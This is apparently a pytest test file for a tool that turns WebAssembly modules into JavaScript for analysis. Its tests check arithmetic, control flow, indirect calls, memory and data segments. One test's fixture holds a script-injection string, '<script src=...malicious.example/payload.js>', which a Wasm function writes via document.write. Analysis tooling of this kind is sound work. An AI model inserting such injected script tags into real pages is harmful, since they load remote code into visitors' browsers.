import re

import pytest

from jwbinder import js
from jwbinder.js import ast as A
from jwbinder.oracle import differential_check, eval_fragment
from jwbinder.ssr import (
    AbstractStack, AbstractValue, Context, ModuleAbstraction, NameGenerator, OP_HELPERS, abstract_data,
    abstract_function, abstract_instruction, prelude,
)
from jwbinder.wasm.decoder import Instruction as I


def fold(instrs, ctx):
    stack, out = AbstractStack(), []
    for instr in instrs:
        stack, emitted = abstract_instruction(stack, instr, ctx)
        out += emitted
    return stack, js.print_js(A.Program(out))


def idents(text):
    return set(re.findall(r"[A-Za-z_$][\w$]*", text))


def test_const_mul_set():
    ctx = Context(locals=("i32",))
    _, text = fold([I("i32.const", (2,)), I("i32.const", (3,)), I("i32.mul"), I("local.set", (0,))], ctx)
    assert text == "const C_0 = 2;\nconst C_1 = 3;\nconst T_0 = C_0 * C_1;\nloc0 = T_0;\n"


def test_popcnt_uses_helper():
    ctx = Context()
    stack = AbstractStack([AbstractValue("C_0", "i32")])
    stack, out = abstract_instruction(stack, I("i32.popcnt"), ctx)
    assert js.print_js(A.Program(out)) == "const T_0 = popcnt(C_0);\n"
    assert ctx.helpers_used == {"popcnt"}
    assert [v.name for v in stack.values] == ["T_0"]


def test_nop_and_get_emit_nothing():
    ctx = Context(params=("i32",))
    stack = AbstractStack([AbstractValue("C_0", "i32")])
    after, out = abstract_instruction(stack, I("nop"), ctx)
    assert out == [] and [v.name for v in after.values] == ["C_0"]
    after, out = abstract_instruction(after, I("local.get", (0,)), ctx)
    assert out == [] and [v.name for v in after.values] == ["C_0", "p0"]


def test_tee_assigns_and_pushes():
    ctx = Context(locals=("i32",))
    stack, text = fold([I("i32.const", (9,)), I("local.tee", (0,))], ctx)
    assert "loc0 = C_0;" in text
    assert stack.top().name == "loc0"


def test_select_and_unreachable():
    ctx = Context(params=("i32", "i32", "i32"))
    _, text = fold([I("local.get", (0,)), I("local.get", (1,)), I("local.get", (2,)), I("select")], ctx)
    assert text == "const T_0 = p2 ? p0 : p1;\n"
    _, text = fold([I("unreachable")], Context())
    assert text == 'throw "unreachable";\n'


def test_unsigned_ops_use_helpers():
    ctx = Context(params=("i32", "i32"))
    fold([I("local.get", (0,)), I("local.get", (1,)), I("i32.div_u")], ctx)
    fold([I("local.get", (0,)), I("local.get", (1,)), I("i32.shr_u")], ctx)
    assert {"div_u", "shr_u"} <= ctx.helpers_used
    assert {"popcnt", "clz", "ctz", "rotl", "rotr", "div_u", "rem_u", "shr_u", "i64"} <= set(OP_HELPERS.values()) | {"i64"}


def test_underflow_marks_function_failed(assemble):
    module = assemble('(module (func (export "f") (result i32) i32.const 1))')
    body = module.function(0).body
    body[:] = [I("i32.add")]
    frag = abstract_function(module, 0)
    assert frag.failed and "underflow" in frag.error
    assert "abstraction-failed" in js.print_js(A.Program([frag.as_function("f")]))


def test_result_only_function(assemble):
    module = assemble('(module (func (result i32) i32.const 0))')
    frag = abstract_function(module, 0)
    assert frag.text() == "const C_0 = 0;"
    assert frag.result_expr.name == "C_0"


def test_empty_function(assemble):
    frag = abstract_function(assemble("(module (func))"), 0)
    assert frag.statements == [] and frag.result_expr is None


def test_add_fragment_evaluates_to_seven(assemble):
    module = assemble('(module (func (export "add") (param i32 i32) (result i32) local.get 0 local.get 1 i32.add))')
    frag = abstract_function(module, 0)
    assert frag.text() == "const T_0 = p0 + p1;"
    result, trace = eval_fragment(frag, [3, 4])
    assert result == 7 and trace.calls == []


def test_motivating_foo_fragment(motivating_module):
    abstraction = ModuleAbstraction(motivating_module, {("env", "document_write"): "document.write"})
    idx = motivating_module.exported_func("foo")
    frag = abstraction.function(idx)
    text = frag.text()
    assert re.search(r"L_\d+: for \(;;\) \{", text)
    loop_body = text[text.index("for (;;)"):]
    assert "document.write(" in loop_body
    assert not frag.failed


def test_unbound_import_gets_synthetic_name(motivating_module):
    abstraction = ModuleAbstraction(motivating_module)
    frag = abstraction.function(motivating_module.exported_func("foo"))
    assert "IMPORT_0(" in frag.text()
    assert any("unbound import 0" in d for d in abstraction.diagnostics)


def test_block_and_loop_shapes(assemble):
    module = assemble("""(module (func (param i32) (result i32) (local i32)
      (block $out
        (loop $top
          (br_if $out (i32.eqz (local.get 0)))
          (local.set 1 (i32.add (local.get 1) (local.get 0)))
          (local.set 0 (i32.sub (local.get 0) (i32.const 1)))
          (br $top)))
      (local.get 1)))""")
    text = abstract_function(module, 0).text()
    labels = re.findall(r"(L_\d+): for \(;;\)", text)
    assert len(labels) == 2
    outer, inner = labels
    assert f"break {outer};" in text and f"continue {inner};" in text
    assert re.search(rf"if \(\w+\) \{{\s*break {outer};", text)
    assert differential_check(module, 0, [[5], [0], [100]]).ok


def test_if_else(assemble):
    module = assemble("""(module (func (param i32) (result i32)
      (if (result i32) (local.get 0) (then (i32.const 10)) (else (i32.const 20)))))""")
    text = abstract_function(module, 0).text()
    assert "if (p0) {" in text and "} else {" in text
    assert differential_check(module, 0, [[0], [1], [-1]]).ok


def test_br_table_lowered_to_if_chain(assemble):
    module = assemble("""(module (func (param i32) (result i32)
      (block $a (block $b (block $c (br_table $c $b $a (local.get 0)))
        (return (i32.const 1)))
        (return (i32.const 2)))
      (i32.const 3)))""")
    text = abstract_function(module, 0).text()
    assert "if (p0 === 0) {" in text and "if (p0 === 1) {" in text
    assert "switch" not in text
    assert differential_check(module, 0, [[0], [1], [2], [7], [-1]]).ok


def test_call_indirect_dispatch_stub(assemble):
    module = assemble("""(module (type $t (func (param i32) (result i32)))
      (table 2 funcref) (elem (i32.const 0) $inc $dbl)
      (func $inc (param i32) (result i32) (i32.add (local.get 0) (i32.const 1)))
      (func $dbl (param i32) (result i32) (i32.mul (local.get 0) (i32.const 2)))
      (func (export "run") (param i32 i32) (result i32)
        (call_indirect (type $t) (local.get 1) (local.get 0))))""")
    abstraction = ModuleAbstraction(module)
    frag = abstraction.function(2)
    assert re.search(r"INDIRECT_\d+\(p0\)\(p1\)", frag.text())
    state, _ = abstraction.state_statements([2])
    stub = js.print_js(A.Program([s for s in state if isinstance(s, A.FunctionDeclaration)]))
    assert "F_0" in stub and "F_1" in stub and "undefined-element" in stub
    report = differential_check(module, 2, [[0, 5], [1, 5], [2, 5]])
    assert report.ok
    assert [m for m in report.mismatches] == []


def test_big_i64_constant_wrapped(assemble):
    module = assemble('(module (func (result i64) i64.const 9007199254740993))')
    frag = abstract_function(module, 0)
    assert 'i64("9007199254740993")' in frag.text()
    assert "i64" in frag.helpers_used
    small = abstract_function(assemble('(module (func (result i64) i64.const 42))'), 0)
    assert small.text() == "const C_0 = 42;"


def test_memory_access_uses_mem(assemble):
    module = assemble("""(module (memory 1) (func (param i32) (result i32)
      (i32.store (local.get 0) (i32.const 7)) (i32.load (local.get 0))))""")
    text = abstract_function(module, 0).text()
    assert re.search(r"MEM\[\w+\] = C_0;", text)
    assert re.search(r"const T_\d+ = MEM\[\w+\];", text)


def test_data_string_and_offset(motivating_module):
    text = abstract_data(motivating_module).text()
    assert text.startswith('const DATA_0 = "<script src=\\"http://malicious.example/payload.js\\"></script>')
    assert "const DATA_0_OFFSET = 0;" in text


def test_data_byte_array(assemble):
    module = assemble('(module (memory 1) (data (i32.const 0) "\\00\\ff\\10"))')
    assert abstract_data(module).text() == "const DATA_0 = [0, 255, 16];\nconst DATA_0_OFFSET = 0;"


def test_data_empty_module(assemble):
    frag = abstract_data(assemble("(module)"))
    assert frag.statements == [] and frag.text() == ""


def test_data_segments_in_section_order(assemble):
    module = assemble('(module (memory 1) (data (i32.const 64) "second?") (data (i32.const 0) "first!"))')
    text = abstract_data(module).text()
    assert text.index('"second?"') < text.index('"first!"')
    assert "DATA_0_OFFSET = 64;" in text and "DATA_1_OFFSET = 0;" in text


def test_names_avoid_reserved_symbols(assemble):
    module = assemble('(module (func (param i32) (result i32) (i32.add (local.get 0) (i32.const 2))))')
    gen = NameGenerator({"C_0", "T_0", "p0"})
    text = abstract_function(module, 0, namegen=gen).text()
    assert not {"C_0", "T_0", "p0"} & idents(text)


def test_site_prefixes_are_disjoint(assemble):
    module = assemble('(module (memory 1) (data (i32.const 0) "xx") (data (i32.const 8) "yy"))')
    root = NameGenerator()
    a = abstract_data(module, root.site(""))
    b = abstract_data(module, root.site("W1_"))
    assert a.declared and not a.declared & b.declared


def test_fragments_and_prelude_parse(motivating_module):
    abstraction = ModuleAbstraction(motivating_module, {("env", "document_write"): "document.write"})
    frag = abstraction.function(motivating_module.exported_func("foo"))
    js.parse_js(js.print_js(frag.program()))
    js.parse_js(prelude(sorted(set(OP_HELPERS.values()) | {"i64"})))


def test_stack_height_matches_result_arity(assemble):
    module = assemble("""(module (func (param i32) (result i32)
      (drop (i32.const 5)) (i32.mul (local.get 0) (local.get 0))))""")
    frag = abstract_function(module, 0)
    assert frag.result_expr is not None and not frag.failed


@pytest.mark.parametrize("op,args,want", [
    ("i32.popcnt", [13], 3), ("i32.clz", [1], 31), ("i32.ctz", [8], 3),
])
def test_unary_helpers_evaluate(assemble, op, args, want):
    module = assemble(f"(module (func (param i32) (result i32) ({op} (local.get 0))))")
    result, _ = eval_fragment(abstract_function(module, 0), args)
    assert result == want


def test_call_indirect_constant_index_resolved(assemble):
    module = assemble("""(module (type $t (func (param i32) (result i32)))
      (table 1 funcref) (elem (i32.const 0) $inc)
      (func $inc (param i32) (result i32) (i32.add (local.get 0) (i32.const 1)))
      (func (param i32) (result i32) (call_indirect (type $t) (local.get 0) (i32.const 0))))""")
    frag = abstract_function(module, 1)
    assert re.search(r"F_0\(p0\)", frag.text())
    assert not frag.indirect_types
    assert differential_check(module, 1, [[0], [41]]).ok
